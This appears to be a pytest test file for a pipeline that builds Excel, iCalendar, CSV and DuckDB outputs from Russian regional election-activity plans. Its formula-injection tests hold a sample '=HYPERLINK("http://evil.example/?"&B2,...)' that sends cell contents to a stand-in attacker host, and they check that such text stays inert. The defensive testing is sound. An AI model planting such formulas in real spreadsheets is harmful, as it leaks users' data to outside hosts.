"""What analysts open, built from a real night over the demo inbox (plus one broken upload): the Excel book
(read back with openpyxl, printed through LibreOffice), the calendar (read back with icalendar) and the DuckDB
database with `svodka query`/`compare`. The report has its own file (test_report.py)."""

import csv
import shutil
import subprocess
import zipfile
from datetime import date, timedelta
from pathlib import Path

import openpyxl
import pyarrow as pa
import pytest
from icalendar import Calendar

from pipeline import analytics
from pipeline.night import run_night
from pipeline.outputs import ANALYST_WRITERS, OUTPUT_FILES
from pipeline.outputs.ics import SHORT_RANGE_DAYS
from pipeline.outputs.labels import anchor_words, categories, category_label
from pipeline.outputs.xlsx import write_xlsx
from pipeline.settings import Settings
from tests.conftest import SAMPLES

DATED = {"date", "range", "before", "after"}


def test_every_analyst_output_is_described(analyst_night):
    """The whole list against a real night is in test_ingest; here, that no writer adds an unnamed file."""
    _, _, _, release = analyst_night
    written = {p.name for p in release.iterdir() if not p.name.startswith(".")}
    assert {"activities.xlsx", "report.html", "deadlines.ics", "svodka.duckdb"} <= written <= set(OUTPUT_FILES)


def test_a_night_with_nothing_accepted_still_writes_every_output(analyst_night, tmp_path):
    quarantined = [r for r in analyst_night[1] if r.status == "quarantined"]
    release = tmp_path / "20260301T020000-test00"
    release.mkdir()
    for writer in ANALYST_WRITERS:
        writer(release, [], quarantined)
    assert {p.name for p in release.iterdir()} == {"activities.xlsx", "report.html", "deadlines.ics",
                                                   "svodka.duckdb"}
    assert '"lanes": [], ' in (release / "report.html").read_text(encoding="utf-8")
    assert openpyxl.load_workbook(release / "activities.xlsx")["Мероприятия"].max_row == 1


# ---------------------------------------------------------------- Excel


@pytest.fixture(scope="module")
def book(analyst_night):
    return openpyxl.load_workbook(analyst_night[2] / "activities.xlsx")


def test_sheets_of_the_workbook(book):
    assert book.sheetnames == ["Мероприятия", "Регионы × категории", "Охват", "Документы", "Требуют проверки",
                               "Изменения"]


def test_activities_are_ordered_by_region_then_plan_then_row(book, analyst_night):
    activities = analyst_night[0]
    sheet = book["Мероприятия"]
    headers = [c.value for c in sheet[1]]
    assert headers[:4] == ["Регион", "Год", "№", "Мероприятие"]
    assert sheet.max_row == len(activities) + 1
    region, table, row = headers.index("Регион"), headers.index("Табл."), headers.index("Строка")
    keys = [(r[region].value, r[table].value or 0, r[row].value) for r in sheet.iter_rows(min_row=2)]
    regions = [k[0] for k in keys]
    assert regions == sorted(regions)
    for name in set(regions):  # within a region (one plan each in the demo), the plan's own order of rows
        rows = [k[1:] for k in keys if k[0] == name]
        assert rows == sorted(rows), name


def test_activity_cells_match_the_jsonl(book, analyst_night):
    by_id = {a.activity_id: a for a in analyst_night[0]}
    sheet = book["Мероприятия"]
    headers = [c.value for c in sheet[1]]
    ident, title, start, end = (headers.index(h) for h in ("Код мероприятия", "Мероприятие", "Начало", "Окончание"))
    for row in sheet.iter_rows(min_row=2):
        a = by_id[row[ident].value]
        assert row[title].value == a.title
        assert (row[start].value.date() if row[start].value else None) == a.deadline_start
        assert (row[end].value.date() if row[end].value else None) == a.deadline_end
        if a.deadline_start:
            assert row[start].is_date and row[start].number_format == "DD.MM.YYYY"


def test_each_activity_links_to_its_document_row(book, analyst_night):
    sheet, documents = book["Мероприятия"], book["Документы"]
    headers = [c.value for c in sheet[1]]
    file_column = headers.index("Файл")
    for row in sheet.iter_rows(min_row=2):
        cell = row[file_column]
        target = cell.hyperlink.location
        assert target.startswith("'Документы'!A"), target
        linked = documents[target.split("!")[1]]
        assert linked.value == cell.value  # the document row of the same file
        assert documents.cell(linked.row, 2).value == "принят"


def test_every_sheet_is_filtered_frozen_and_set_up_for_print(book):
    for sheet in book:
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
        assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
        assert sheet.print_title_rows == "$1:$1", sheet.title  # the header on every printed page
    assert book["Мероприятия"].print_area == "'Мероприятия'!$A$1:$J$" + str(book["Мероприятия"].max_row)


def test_row_heights_fit_the_wrapped_text(book):
    sheet = book["Мероприятия"]
    widths = {c: sheet.column_dimensions[c].width for c in "ABCDEFGHIJ"}
    for row in sheet.iter_rows(min_row=2, max_col=10):
        longest = max(len(str(c.value or "")) / max(widths[c.column_letter] - 1, 1) for c in row)
        height = sheet.row_dimensions[row[0].row].height
        assert height >= 12.75 * longest, (row[0].row, height, longest)  # never shorter than the text
    heights = {sheet.row_dimensions[r].height for r in range(2, sheet.max_row + 1)}
    assert len(heights) > 3  # rows differ: each is as high as its own text


def test_matrix_and_documents_sheets_add_up(book, analyst_night):
    activities, records, _, _ = analyst_night
    matrix = list(book["Регионы × категории"].iter_rows(min_row=2, values_only=True))
    assert sum(row[-1] for row in matrix) == len(activities)
    assert {row[0] for row in matrix} == {a.region_name for a in activities}
    documents = list(book["Документы"].iter_rows(min_row=2, values_only=True))
    assert len(documents) == len(records)
    assert ("plan_tomsk_2024.docx", "отложен (карантин)") in {row[:2] for row in documents}


def test_gaps_in_the_matrix_are_coloured(book):
    sheet = book["Регионы × категории"]
    last_category = sheet.max_column - 1
    for row in sheet.iter_rows(min_row=2, min_col=2, max_col=last_category - 1):  # «Прочее» is no gap
        for cell in row:
            assert (cell.fill.fgColor.rgb == "FFFBE3E3") == (cell.value == 0), cell.coordinate


def test_coverage_sheet_lists_every_subject_for_every_year(book):
    rows = list(book["Охват"].iter_rows(min_row=2, values_only=True))
    years = sorted({r[0] for r in rows}, reverse=True)
    assert years == [2026, 2024, 2023, 2022, 2021]
    assert len(rows) == 89 * len(years)
    tomsk = next(r for r in rows if r[0] == 2024 and r[1] == "70")
    assert tomsk[4] == "прислан, но не прочитан" and tomsk[5] == "plan_tomsk_2024.docx"
    assert tomsk[6].startswith("Файл назван .docx, но по содержимому это текст")  # the reason, as recorded
    plans_2021 = sorted(r[2] for r in rows if r[0] == 2021 and r[4] == "план есть")
    assert plans_2021 == ["Кемеровская область — Кузбасс", "Псковская область", "Республика Татарстан (Татарстан)",
                          "Тюменская область", "Хабаровский край"]


def test_review_sheet_lists_the_quarantined_file_and_every_open_doubt(book, analyst_night):
    rows = list(book["Требуют проверки"].iter_rows(values_only=True))
    issues = [row[0] for row in rows[1:]]
    assert issues.count("Файл не принят") == 1
    assert issues.count("Мероприятие") == sum(len(a.review_reasons) for a in analyst_night[0]) > 0
    assert any("раньше даты утверждения плана" in row[6] for row in rows[1:])


@pytest.mark.parametrize(("anchor", "offset", "words"), [
    ("voting_day", -10, "день голосования −10 дн."),
    ("election_called", 1, "назначение выборов +1 дн."),
    ("voting_first_day", 0, "первый день голосования"),
    ("voting_days", None, "дни голосования"),
    (None, None, ""),
])
def test_anchor_words_of_the_excel_sheet(anchor, offset, words):
    assert anchor_words(anchor, offset) == words


def test_the_same_data_makes_the_same_workbook(analyst_night, tmp_path):
    activities, records, _, release = analyst_night
    (tmp_path / release.name).mkdir()
    again = write_xlsx(tmp_path / release.name, activities, records)
    assert again.read_bytes() == (release / "activities.xlsx").read_bytes()


@pytest.mark.parametrize(("text", "in_csv"), [
    ("=1+2", "'=1+2"), ("+7 (999) 123-45-67", "'+7 (999) 123-45-67"), ("-ежемесячно", "'-ежемесячно"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("Срок: до 1 марта", "Срок: до 1 марта"), ("1 = 1", "1 = 1"), ("", ""),
])
def test_formula_like_text_is_escaped_for_csv(text, in_csv):
    from pipeline.outputs.safe_text import csv_safe, is_formula_like

    assert csv_safe(text) == in_csv
    assert is_formula_like(text) == (text != in_csv)


FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Подробнее")'
FORMULA_NAME = "=1+2 план штаба.txt"


def test_text_that_looks_like_a_formula_stays_text_in_excel_and_csv(tmp_path):
    """A cell and a file name starting with «=» (or «+», «-», «@») never become live formulas."""
    text = (SAMPLES / "inbox" / "kuzbass_2021.txt").read_text(encoding="utf-8")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / FORMULA_NAME).write_text(text.replace("Комплектование состава", FORMULA, 1), encoding="utf-8")
    run_night([inbox], Settings(out_dir=tmp_path / "out", workers=1))
    book = openpyxl.load_workbook(tmp_path / "out" / "activities.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    review = openpyxl.load_workbook(tmp_path / "out" / "review.xlsx")  # people's corrections file, too
    assert [c.coordinate for sheet in review for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    titles = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA)]
    names = [c for c in cells if c.value == FORMULA_NAME]
    assert titles and len(names) >= 17 + 1, "every activity's «Файл» and the «Документы» row (and «Охват»)"
    assert all(c.quotePrefix and c.data_type == "s" for c in titles + names), "marked as text, as Excel does"
    raw = (tmp_path / "out" / "activities.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(raw.splitlines()))
    assert rows[0]["title"].startswith("'" + FORMULA) and {r["source_file"] for r in rows} == {"'" + FORMULA_NAME}
    assert raw.splitlines()[1].startswith('"'), "OWASP: every field quoted"


def test_text_that_looks_like_a_formula_stays_text(analyst_night, tmp_path):
    activities, records, _, _ = analyst_night
    odd = activities[0].model_copy(update={"title": "=HYPERLINK(\"http://x\",\"y\") & <b>\x07", "note": "+1"})
    (tmp_path / "20260301T020000-test00").mkdir()
    path = write_xlsx(tmp_path / "20260301T020000-test00", [odd], records)
    sheet = openpyxl.load_workbook(path)["Мероприятия"]
    headers = [c.value for c in sheet[1]]
    cell = sheet.cell(2, headers.index("Мероприятие") + 1)
    assert cell.data_type == "s" and cell.value == "=HYPERLINK(\"http://x\",\"y\") & <b>"
    assert sheet.cell(2, headers.index("Примечание") + 1).value == "+1"


@pytest.mark.slow  # LibreOffice's first start on a fresh profile takes 10–20 s; docs/make_screenshot.py prints too
@pytest.mark.skipif(shutil.which("soffice") is None, reason="нужен LibreOffice")
def test_the_printed_workbook_is_landscape_with_the_header_on_every_page(analyst_night, tmp_path):
    """LibreOffice prints the activities: landscape pages, the header row repeated on the second page."""
    book = tmp_path / "book.xlsx"
    shutil.copyfile(analyst_night[2] / "activities.xlsx", book)
    subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to",
                    "pdf", "--outdir", str(tmp_path), str(book)], check=True, capture_output=True, timeout=180)
    import pdfplumber

    with pdfplumber.open(tmp_path / "book.pdf") as pdf:
        first, second = pdf.pages[0], pdf.pages[1]
        assert first.width > first.height  # landscape
        for page in (first, second):
            words = page.extract_text()
            assert "Регион" in words and "Мероприятие" in words and "Ответственные" in words
        assert "Код мероприятия" not in first.extract_text()  # codes are for the screen, not for paper


# ---------------------------------------------------------------- iCalendar


_events: dict = {}


def events_of(out: Path) -> dict[str, object]:
    """The calendar's events by UID, read once per published folder."""
    if out not in _events:
        calendar = Calendar.from_ical((out / "deadlines.ics").read_bytes())
        _events[out] = {str(e["UID"]): e for e in calendar.walk("VEVENT")}
    return _events[out]


def span(a):
    return a.deadline_start or a.deadline_end, a.deadline_end or a.deadline_start


def test_each_dated_activity_makes_the_events_a_person_acts_on(analyst_night):
    activities, _, out, _ = analyst_night
    events = events_of(out)
    expected = set()
    for a in activities:
        if a.deadline_kind not in DATED or not (a.deadline_start or a.deadline_end):
            continue
        first, last = span(a)
        if a.deadline_kind == "range" and (last - first).days >= SHORT_RANGE_DAYS:
            expected |= {f"{a.activity_id}-start@svodka", f"{a.activity_id}-end@svodka"}
        else:
            expected.add(f"{a.activity_id}@svodka")
    assert set(events) == expected and len(expected) > 50


@pytest.mark.parametrize(("kind", "long"), [("date", False), ("before", False), ("after", False),
                                            ("range", False), ("range", True)])
def test_event_days_follow_the_deadline_kind(analyst_night, kind, long):
    activities, _, out, _ = analyst_night
    events = events_of(out)
    a = next(a for a in activities if a.deadline_kind == kind and (kind == "date" or a.deadline_start != a.deadline_end)
             and (kind != "range" or ((span(a)[1] - span(a)[0]).days >= SHORT_RANGE_DAYS) == long))
    first, last = span(a)
    if kind == "range" and long:
        start, end = events[f"{a.activity_id}-start@svodka"], events[f"{a.activity_id}-end@svodka"]
        assert (start["DTSTART"].dt, start["DTEND"].dt) == (first, first + timedelta(days=1))
        assert (end["DTSTART"].dt, end["DTEND"].dt) == (last, last + timedelta(days=1))
        assert str(start["SUMMARY"]).startswith(f"{a.region_name}: Начало: ")
        assert str(end["SUMMARY"]).startswith(f"{a.region_name}: Окончание: ")
        return
    event = events[f"{a.activity_id}@svodka"]
    days = {"date": (first, last), "range": (first, last), "before": (last, last), "after": (first, first)}[kind]
    assert (event["DTSTART"].dt, event["DTEND"].dt) == (days[0], days[1] + timedelta(days=1))
    assert str(event["SUMMARY"]).endswith(a.title)


def test_events_remind_the_day_before_and_say_where_they_come_from(analyst_night):
    activities, _, out, _ = analyst_night
    events = events_of(out)
    a = next(a for a in activities if a.deadline_kind == "before" and a.responsible_raw and a.source_page)
    event = events[f"{a.activity_id}@svodka"]
    alarms = list(event.walk("VALARM"))
    assert len(alarms) == 1 and alarms[0]["TRIGGER"].dt == -timedelta(hours=15)  # 09:00 the day before
    assert event["CATEGORIES"].cats == [category_label(a.category)]
    text = str(event["DESCRIPTION"])
    for part in (f"Регион: {a.region_name}", a.deadline_raw, a.responsible_raw, a.source_file,
                 f"стр. {a.source_page}", f"строка {a.source_row}"):
        assert part in text, part
    names = {str(e["CATEGORIES"].cats[0]) for e in events.values()}
    assert names <= {category_label(c) for c in categories()} and not names & set(categories())


def test_calendar_lines_are_folded_at_75_octets(analyst_night):
    raw = (analyst_night[2] / "deadlines.ics").read_bytes()
    assert raw.endswith(b"\r\n")
    assert max(len(line) for line in raw.split(b"\r\n")) <= 75
    raw.decode("utf-8")  # never cut inside a character


# ---------------------------------------------------------------- DuckDB, query and compare


def test_sql_counts_per_region_match_the_jsonl(analyst_night):
    activities, _, out, _ = analyst_night
    _, rows = analytics.fetch(out, "SELECT region_name, count(*) FROM activities GROUP BY 1")
    expected = {}
    for a in activities:
        expected[a.region_name] = expected.get(a.region_name, 0) + 1
    assert dict(rows) == expected
    text = analytics.run_query(out, "SELECT region_name, count(*) AS n FROM activities GROUP BY 1 ORDER BY 1")
    assert text.splitlines()[0].split() == ["region_name", "n"]
    assert f"({len(expected)} строк)" in text


def test_hotline_view_typed_columns_and_coverage_table(analyst_night):
    activities, _, out, _ = analyst_night
    _, rows = analytics.fetch(out, "SELECT title FROM hotline")
    assert sorted(r[0] for r in rows) == sorted(a.title for a in activities if a.category == "hotline")
    _, types = analytics.fetch(out, "SELECT typeof(deadline_start), typeof(responsible_persons), "
                                    "typeof(deadline_dates), typeof(deadline_offset_days) FROM activities LIMIT 1")
    assert types[0] == ("DATE", "VARCHAR[]", "DATE[]", "INTEGER")
    _, regions = analytics.fetch(out, "SELECT count(*) FROM regions")
    assert regions[0][0] == 89
    _, coverage = analytics.fetch(out, "SELECT year, status, count(*) FROM coverage GROUP BY ALL ORDER BY ALL")
    assert (2021, "plan", 5) in coverage and (2024, "quarantined", 1) in coverage and (2021, "nothing", 84) in coverage


def test_database_is_read_through_the_current_release(analyst_night):
    _, _, out, release = analyst_night
    assert (out / "svodka.duckdb").is_symlink()
    assert analytics.database_of(out) == (release / "svodka.duckdb").resolve()


@pytest.mark.parametrize("sql", ["SELECT * FROM no_such_table", "SELEKT 1", "DROP TABLE activities"])
def test_bad_sql_gets_a_russian_error_not_a_traceback(analyst_night, sql):
    with pytest.raises(analytics.QueryError, match="Запрос не выполнен"):
        analytics.run_query(analyst_night[2], sql)


def test_query_without_a_database_says_what_to_run(tmp_path):
    with pytest.raises(analytics.QueryError, match="svodka ingest"):
        analytics.run_query(tmp_path, "SELECT 1")


@pytest.mark.parametrize(("fmt", "expected"), [
    ("csv", "x,day,names\n1,2021-09-17,а; б"),
    ("json", '[\n  {\n    "x": 1,\n    "day": "2021-09-17",\n    "names": [\n      "а",\n      "б"\n    ]\n  }\n]'),
])
def test_query_as_csv_and_json(analyst_night, fmt, expected):
    sql = "SELECT 1 AS x, DATE '2021-09-17' AS day, ['а', 'б'] AS names"
    assert analytics.run_query(analyst_night[2], sql, fmt) == expected


def test_query_table_cuts_long_values_unless_full(analyst_night):
    sql = "SELECT repeat('я', 100) AS long"
    assert "я" * 59 + "…" in analytics.run_query(analyst_night[2], sql)
    assert "я" * 100 in analytics.run_query(analyst_night[2], sql, full=True)


def test_compare_hotline_names_every_region_with_a_hotline(analyst_night):
    activities, _, out, _ = analyst_night
    text = analytics.compare(out, "hotline")
    for region in {a.region_name for a in activities if a.category == "hotline"}:
        assert region in text
    assert "Д−39…Д+3" in text  # Chuvashia: 01.08–12.09.2022, voting 09–11.09.2022 (Д0 = 09.09)


@pytest.mark.parametrize("name", ["hotline", "Горячая линия и обращения", "Горячая линия", "горячая", "HOTLINE",
                                  "  Горячая   линия "])
def test_compare_takes_an_id_a_russian_label_or_its_beginning(name):
    assert analytics.category_id(name) == "hotline"


def test_compare_lists_regions_lacking_the_category_and_explains_unknown_ones(analyst_night):
    activities, _, out, _ = analyst_night
    having = {a.region_name for a in activities if a.category == "legal"}
    lacking = sorted({a.region_name for a in activities} - having)
    assert lacking
    assert analytics.compare(out, "Правовые вопросы").splitlines()[-1] == "Нет в планах: " + ", ".join(lacking)
    with pytest.raises(analytics.QueryError, match="Нет категории «космос». Есть: «Общественный штаб», "):
        analytics.compare(out, "космос")
    with pytest.raises(analytics.QueryError, match="нескольким категориям.*«Обучение наблюдателей»"):
        analytics.compare(out, "О")


def test_workbook_is_a_valid_zip_with_the_run_moment(analyst_night):
    with zipfile.ZipFile(analyst_night[2] / "activities.xlsx") as archive:
        assert archive.testzip() is None
        assert {i.date_time for i in archive.infolist()} == {(2026, 3, 1, 2, 0, 0)}
        assert date(2026, 3, 1).isoformat() in archive.read("docProps/core.xml").decode()


@pytest.mark.parametrize("which", ["activities", "records"])
def test_arrow_columns_built_off_the_attributes_equal_pydantics_dicts(analyst_night, which):
    """models_to_arrow reads attributes column by column (messages through their dicts): the table is the
    one pydantic's own dump of every row gives, computed fields and nested messages included."""
    from pipeline.publish import arrow_type, models_to_arrow
    from schemas import Activity, DocumentRecord

    model, rows = {"activities": (Activity, analyst_night[0]), "records": (DocumentRecord, analyst_night[1])}[which]
    built = models_to_arrow(model, rows)
    kinds = {n: i.annotation for n, i in model.model_fields.items()}
    kinds |= {n: i.return_type for n, i in model.model_computed_fields.items()}
    schema = pa.schema([pa.field(n, arrow_type(k)) for n, k in kinds.items()])
    assert len(rows) > 3 and built.equals(pa.Table.from_pylist([r.model_dump() for r in rows], schema=schema))
